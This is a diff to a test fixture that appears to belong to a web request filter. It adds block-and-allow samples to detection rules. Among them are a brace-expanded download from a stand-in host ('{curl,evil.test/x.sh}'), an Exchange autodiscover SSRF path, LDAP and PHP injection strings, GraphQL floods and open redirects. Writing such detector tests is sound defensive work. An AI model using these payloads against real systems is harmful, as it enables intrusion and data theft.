@@ -151,7 +151,7 @@ NAMED = {
     "rce-powershell": (["Invoke-Expression x", "DownloadString"], ["invoke an expression", "download"]),
     "rce-interpreter": (["os.system('x')", "subprocess.Popen(x)"], ["os systems", "the subprocess"]),
     "rce-download": (
-        ["wget http://x", "curl -s https://x", "x;pip install y"],
+        ["wget http://x", "curl -s https://x", "x;pip install y", "{curl,evil.test/x.sh}"],
         ["curl up", "fetch it", "npm install react"],
     ),
     "injection-php-wrapper": (["php://input", "phar://x"], ["php: the input", "http://x"]),
@@ -162,7 +162,10 @@ NAMED = {
         ["$5 (net)", "$ {x}", "it's. 'so' (new)"],
     ),
     "injection-upload-name": ([header("a.php", "x-filename"), path("/x.php.jpg")], [header("a.jpg", "x-filename")] * 2),
-    "injection-php-variable": (["$_GET['x']", "$GLOBALS"], ["$get", "globals"]),
+    "injection-php-variable": (
+        ["$_GET['x']", "$GLOBALS", "x/invokefunction"],
+        ["$get", "globals"],
+    ),
     "injection-php-object": (['O:1:"a":0:{', 'a:1:{i:0;s:1:"x";}'], ["o: 1", "ratio a:1"]),
     "injection-java-class": (["java.lang.Runtime", header("ProcessBuilder.x")], ["java language", "runtime"]),
     "injection-java-expression": (
@@ -180,12 +183,15 @@ NAMED = {
     ),
     "injection-node-code": (["require('fs')", "child_process"], ["require (this)", "process"]),
     "injection-nosql": ([path("/?a[$ne]=1"), '{"$where": "x"}'], ["[ne]", "cost: $5"]),
-    "injection-ldap": (["*)(uid=*", "(|(a=b"], ["(a) or (b)", "a*b"]),
+    "injection-ldap": (["*)(uid=*", "(|(a=b", "john)(sn~=smith"], ["(a) or (b)", "a*b"]),
     "injection-xml-entity": (['<!DOCTYPE a [<!ENTITY b SYSTEM "x">', "<!entity x"], ["<!doctype html>", "entity"]),
     "injection-xpath": (["' or count(/x)", "child::node()"], ["child: node", "x/y"]),
     "injection-ssi": (['<!--#exec cmd="x"', "<esi:include"], ["<!-- note -->", "#exec"]),
     "injection-mail": (["x\r\nbcc: a@b", "x\r\nRCPT TO: y"], ["bcc: me", "to: you"]),
-    "ssrf-scheme": (["gopher://x", "dict://x"], ["https://x", "a gopher"]),
+    "ssrf-scheme": (
+        ["gopher://x", "dict://x", path("/autodiscover/autodiscover.json?@a.test/mapi/nspi")],
+        ["https://x", "a gopher", path("/autodiscover/autodiscover.json?Email=a@b.test")],
+    ),
     "ssrf-local-address": (
         [
             "http://127.0.0.1/",
@@ -233,6 +239,14 @@ NAMED = {
         [path("/?a=" + "x" * 33_000), header("y" * 9_000)],
         [path("/?a=" + "x" * 30_000), header("y" * 8_000)],
     ),
+    "injection-graphql-flood": (
+        ["{a" * 20 + "}" * 20, "{" + "a1: user(id: 1) { name }, " * 20 + "}"],
+        ["{a" * 19 + "}" * 19, "{ a: user(id: 1) { name } }"],
+    ),
+    "injection-graphql-introspection": (
+        ["{ __schema { types { name } } }", '{__type(name: "User") { name }}'],
+        ["{ __typename }", "a __schema"],
+    ),
     "protocol-too-long": (
         [path("/?a=" + "x" * 33_000), header("y" * 9_000), {"headers": FORM, "body": b"a=b&c" + b"d" * 66_000}],
         [path("/?a=" + "x" * 30_000), {"headers": {"content-type": "image/png"}, "body": b"\x89PNG" + b"d" * 66_000}],
@@ -265,7 +279,10 @@ NAMED = {
         [text("{{7*7}}"), text("${ 7*'7' }"), text("x.__class__.__mro__[1]"), text("#{T(java.lang.Runtime)}")],
         [text("{{ user.name }}"), text("${HOME}"), text("a class with __mro__")],
     ),
-    "protocol-open-redirect": (["//evil.test", "/\\evil.test"], ["/evil.test", "https://evil.test"]),
+    "protocol-open-redirect": (
+        ["//evil.test", "/\\evil.test", path("//evil.test/a")],
+        ["/evil.test", "https://evil.test"],
+    ),
     "protocol-odd-header": (
         [header("a\0b"), header("a%0dbc: d")],
         [header("a b"), header("a%0db"), cookie("a%0dbc: d")],
